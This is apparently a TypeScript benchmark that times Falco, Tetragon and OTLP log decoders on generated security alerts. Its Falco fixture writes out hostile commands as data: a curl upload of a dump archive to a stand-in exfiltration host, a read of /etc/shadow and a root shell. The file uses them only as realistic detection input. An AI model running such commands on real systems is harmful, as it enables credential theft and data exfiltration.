import type { DecodeMeta, Decoder, DecodeSink } from '@outflow/core';
import { falcoDecoder, formats as falcoFormats } from '@outflow/receiver-falco';
import { collectMapping, decodeLogsRequest, OtlpJsonDecoder, OtlpLogsMapper } from '@outflow/receiver-otlp';
import { TetragonDecoder } from '@outflow/receiver-tetragon';
import type { Figure, Suite } from '../harness.js';

const T0 = Date.UTC(2024, 5, 12, 9, 0, 0);

function iso(ms: number, i: number): string {
  return `${new Date(ms).toISOString().slice(0, 19)}.${String(i % 1_000_000_000).padStart(9, '0')}Z`;
}

/** Falco alerts as Falco writes them with json_output: a shell, an outbound connection and a sensitive read, varied per line (about 1.2 kB each). */
function falcoLines(n: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const pod = `web-7c9f8d6b5-${(i % 50).toString(36).padStart(5, 'x')}`;
    const common = {
      'container.id': `3ad8b2f1${(i % 4096).toString(16).padStart(4, '0')}`,
      'container.image.repository': 'registry.example.com/shop/web',
      'container.image.tag': '1.4.2',
      'container.name': 'web',
      'evt.time': (T0 + i) * 1_000_000,
      'k8s.ns.name': 'shop',
      'k8s.pod.name': pod,
      'proc.pid': 40000 + (i % 20000),
      'proc.ppid': 39000 + (i % 1000),
      'proc.pname': 'bash',
      'user.name': 'root',
      'user.uid': 0,
    };
    const kind = i % 3;
    const fields =
      kind === 0
        ? { ...common, 'evt.type': 'execve', 'proc.cmdline': 'bash -il', 'proc.exepath': '/usr/bin/bash', 'proc.name': 'bash', 'proc.tty': 34816 }
        : kind === 1
          ? {
              ...common,
              'evt.type': 'connect',
              'fd.cip': `10.42.${i % 256}.18`,
              'fd.cport': 40000 + (i % 20000),
              'fd.sip': `198.51.100.${i % 256}`,
              'fd.sport': 443,
              'fd.l4proto': 'tcp',
              'fd.type': 'ipv4',
              'fd.name': `10.42.${i % 256}.18:${40000 + (i % 20000)}->198.51.100.${i % 256}:443`,
              'proc.cmdline': `curl -sS -T /tmp/dump-${i}.tar.gz "https://exfil.example.net/upload?part=${i}"`,
              'proc.exepath': '/usr/bin/curl',
              'proc.name': 'curl',
            }
          : {
              ...common,
              'evt.type': 'openat',
              'fd.name': '/etc/shadow',
              'fd.type': 'file',
              'proc.cmdline': 'cat /etc/shadow',
              'proc.exepath': '/usr/bin/cat',
              'proc.name': 'cat',
            };
    const rule = kind === 0 ? 'Terminal shell in container' : kind === 1 ? 'Unexpected outbound connection destination' : 'Read sensitive file untrusted';
    out.push(
      JSON.stringify({
        hostname: `ip-10-0-${i % 8}-17.ec2.internal`,
        output: `${iso(T0 + i, i).slice(11, 29)}: Warning ${rule} (user=root process=${fields['proc.name']} command=${fields['proc.cmdline']} container_id=${common['container.id']})`,
        output_fields: fields,
        priority: 'Warning',
        rule,
        source: 'syscall',
        tags: ['container', 'mitre_exfiltration', 'T1041'],
        time: iso(T0 + i, i),
      }),
    );
  }
  return out;
}

/** Tetragon export lines: 1 exec, 6 tcp_sendmsg, 2 security_file_permission, 1 exit per 10 (about 2 kB each). */
function tetragonLines(n: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const process = {
      exec_id: `bm9kZS0xOjEyMzQ1Njc4OjQy${(i % 1000).toString(16)}`,
      pid: 4000 + (i % 1000),
      uid: 1000,
      cwd: '/app',
      binary: '/usr/bin/python3',
      arguments: `/app/sync.py --part ${i % 1000} --target "bucket one"`,
      flags: 'execve clone',
      start_time: iso(T0, i),
      auid: 4294967295,
      pod: {
        namespace: 'payments',
        name: `ledger-7d4b9c6f8-${(i % 20).toString(36).padStart(5, 'q')}`,
        container: {
          id: 'containerd://4f1a9e2b7c3d5e6f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f',
          name: 'ledger',
          image: {
            id: 'registry.example.com/payments/ledger@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae',
            name: 'registry.example.com/payments/ledger:3.2.0',
          },
          start_time: '2024-06-12T08:00:01Z',
          pid: 1,
        },
        pod_labels: { app: 'ledger', 'pod-template-hash': '7d4b9c6f8' },
        workload: 'ledger',
        workload_kind: 'Deployment',
      },
      docker: '4f1a9e2b7c3d5e6',
      parent_exec_id: 'bm9kZS0xOjEwMDA6MTAw',
    };
    const parent = { exec_id: 'bm9kZS0xOjEwMDA6MTAw', pid: 100, uid: 1000, cwd: '/app', binary: '/bin/sh', arguments: '-c run.sh', start_time: iso(T0, 0) };
    const time = iso(T0 + i, i);
    const k = i % 10;
    let record: unknown;
    if (k === 0) record = { process_exec: { process, parent }, node_name: 'node-1', time };
    else if (k === 9) record = { process_exit: { process, parent, status: 0, time }, node_name: 'node-1', time };
    else if (k <= 6)
      record = {
        process_kprobe: {
          process,
          parent,
          function_name: 'tcp_sendmsg',
          args: [
            {
              sock_arg: {
                family: 'AF_INET',
                type: 'SOCK_STREAM',
                protocol: 'IPPROTO_TCP',
                saddr: '10.42.1.15',
                daddr: `52.216.${i % 256}.170`,
                sport: 40000 + (i % 20000),
                dport: 443,
                cookie: String(18446623371208390656n + BigInt(i % 100)),
                state: 'TCP_ESTABLISHED',
              },
            },
            { int_arg: 1000 + (i % 60000) },
          ],
          action: 'KPROBE_ACTION_POST',
          policy_name: 'monitor-network',
        },
        node_name: 'node-1',
        time,
      };
    else
      record = {
        process_kprobe: {
          process,
          parent,
          function_name: 'security_file_permission',
          args: [{ file_arg: { path: `/var/lib/ledger/part-${i % 1000}.db`, permission: '-rw-r--r--' } }, { int_arg: i % 2 ? 4 : 2 }],
          action: 'KPROBE_ACTION_POST',
          policy_name: 'file-monitoring',
        },
        node_name: 'node-1',
        time,
      };
    out.push(JSON.stringify(record));
  }
  return out;
}

/** OTLP/JSON requests of 100 records each whose bodies are Falco alerts, as an OpenTelemetry Collector filelog receiver ships them. */
function otlpJsonLines(alerts: string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < alerts.length; i += 100) {
    out.push(
      JSON.stringify({
        resourceLogs: [
          {
            resource: { attributes: [{ key: 'k8s.node.name', value: { stringValue: 'node-1' } }] },
            scopeLogs: [
              {
                scope: { name: 'filelog' },
                logRecords: alerts.slice(i, i + 100).map((a, j) => ({
                  timeUnixNano: String(BigInt(T0 + i + j) * 1_000_000n),
                  body: { stringValue: a },
                  attributes: [{ key: 'log.file.name', value: { stringValue: 'events.json' } }],
                })),
              },
            ],
          },
        ],
      }),
    );
  }
  return out;
}

/** OTLP protobuf for the same requests, encoded by hand (resource_logs / scope_logs / log_records with time and string body). */
function otlpProtobuf(docs: string[]): Uint8Array[] {
  const varint = (out: number[], v: number) => {
    while (v >= 0x80) {
      out.push((v & 0x7f) | 0x80);
      v = Math.floor(v / 128);
    }
    out.push(v);
  };
  const len = (out: number[], field: number, bytes: ArrayLike<number>) => {
    varint(out, (field << 3) | 2);
    varint(out, bytes.length);
    for (let i = 0; i < bytes.length; i++) out.push(bytes[i] as number);
  };
  return docs.map((d) => {
    const doc = JSON.parse(d) as { resourceLogs: { scopeLogs: { logRecords: { timeUnixNano: string; body: { stringValue: string } }[] }[] }[] };
    const scope: number[] = [];
    for (const r of doc.resourceLogs[0]?.scopeLogs[0]?.logRecords ?? []) {
      const rec: number[] = [0x09];
      const ns = BigInt(r.timeUnixNano);
      for (let b = 0n; b < 64n; b += 8n) rec.push(Number((ns >> b) & 0xffn));
      const body: number[] = [];
      len(body, 1, Buffer.from(r.body.stringValue));
      len(rec, 5, body);
      len(scope, 2, rec);
    }
    const rl: number[] = [];
    len(rl, 2, scope);
    const req: number[] = [];
    len(req, 1, rl);
    return Uint8Array.from(req);
  });
}

/** Decode `text` line by line as the file transport does (one reused meta, line numbers updated). */
function decodeLines(decoder: Decoder<string>, text: string): number {
  let events = 0;
  let errors = 0;
  const sink: DecodeSink = {
    event: () => {
      events++;
    },
    error: () => {
      errors++;
    },
  };
  const meta: DecodeMeta = { observedTime: T0, location: '/var/log/bench.json', line: 0, receiver: 'bench' };
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i] as string;
    if (line.length === 0) continue;
    meta.line = i + 1;
    decoder.decode(line, sink, meta);
  }
  if (errors > 0) throw new Error(`${errors} decode errors in generated input`);
  return events;
}

/** The baseline: bare split('\n') + JSON.parse of the same bytes. */
function bareParse(text: string): number {
  let n = 0;
  for (const line of text.split('\n')) {
    if (line.length === 0) continue;
    if (JSON.parse(line) !== null) n++;
  }
  return n;
}

function figure(id: string, title: string, runs: Record<string, { perSecond: number }>, perRecord: number, notes: string): Figure {
  const decoded = runs.decoder?.perSecond ?? 0;
  const bare = (runs.bare?.perSecond ?? 0) * perRecord;
  const ratio = bare > 0 ? decoded / bare : 0;
  return {
    id,
    title,
    value: decoded,
    unit: 'events/s',
    ratio: { value: ratio, to: 'bare split + JSON.parse' },
    target: '>= 0.5 of bare parse',
    met: ratio >= 0.5,
    notes,
  };
}

export const suite: Suite = {
  name: 'decode-runtime',
  description: 'Falco, Tetragon and OTLP logs decoders: events/s against bare split + JSON.parse of the same bytes',
  async run(h) {
    const n = h.quick ? 6_000 : 40_000;
    const falcoText = `${falcoLines(n).join('\n')}\n`;
    const tetragonText = `${tetragonLines(n).join('\n')}\n`;
    const otlpDocs = otlpJsonLines(falcoLines(n));
    const otlpText = `${otlpDocs.join('\n')}\n`;
    const protobuf = otlpProtobuf(otlpDocs);
    let skipped = 0;
    const tetragon = new TetragonDecoder({ onSkip: () => skipped++ });
    const otlpJson = new OtlpJsonDecoder({ formats: falcoFormats });
    const mapper = new OtlpLogsMapper({ formats: falcoFormats });
    const expect = (got: number) => {
      if (got !== n) throw new Error(`decoded ${got} events, expected ${n}`);
      return got;
    };
    const figures: Figure[] = [];
    const mb = (s: string) => `${(Buffer.byteLength(s) / 2 ** 20).toFixed(0)} MB`;

    const falcoRuns = await h.compare({ decoder: () => expect(decodeLines(falcoDecoder, falcoText)), bare: () => bareParse(falcoText) });
    figures.push(figure('decode.falco', 'Falco JSON alerts decode', falcoRuns, 1, `${n} alerts, ${mb(falcoText)}`));

    const tetragonRuns = await h.compare({ decoder: () => expect(decodeLines(tetragon, tetragonText)), bare: () => bareParse(tetragonText) });
    figures.push(
      figure(
        'decode.tetragon',
        'Tetragon JSON export decode',
        tetragonRuns,
        1,
        `${n} records (10% exec, 60% tcp_sendmsg, 20% file, 10% exit), ${mb(tetragonText)}`,
      ),
    );
    if (skipped > 0) throw new Error(`${skipped} Tetragon records skipped`);

    const otlpJsonRuns = await h.compare({ decoder: () => expect(decodeLines(otlpJson, otlpText)), bare: () => bareParse(otlpText) });
    figures.push(
      figure(
        'decode.otlp_json',
        'OTLP/JSON logs with Falco bodies decode',
        otlpJsonRuns,
        100,
        `${n} records in ${otlpDocs.length} requests, ${mb(otlpText)}; the decoder also parses each body (sniff + Falco decode), the bare baseline parses only the envelope`,
      ),
    );

    const protobufRuns = await h.compare({
      decoder: () => {
        let events = 0;
        for (const bytes of protobuf) {
          const out = collectMapping();
          mapper.map(decodeLogsRequest(bytes), { observedTime: T0, location: 'http://127.0.0.1', receiver: 'bench' }, out);
          events += out.events.length;
        }
        return expect(events);
      },
      bare: () => bareParse(otlpText),
    });
    figures.push(
      figure(
        'decode.otlp_protobuf',
        'OTLP protobuf logs with Falco bodies decode',
        protobufRuns,
        100,
        `${n} records in ${protobuf.length} requests; ratio to bare JSON.parse of the JSON encoding of the same requests`,
      ),
    );
    return figures;
  },
};
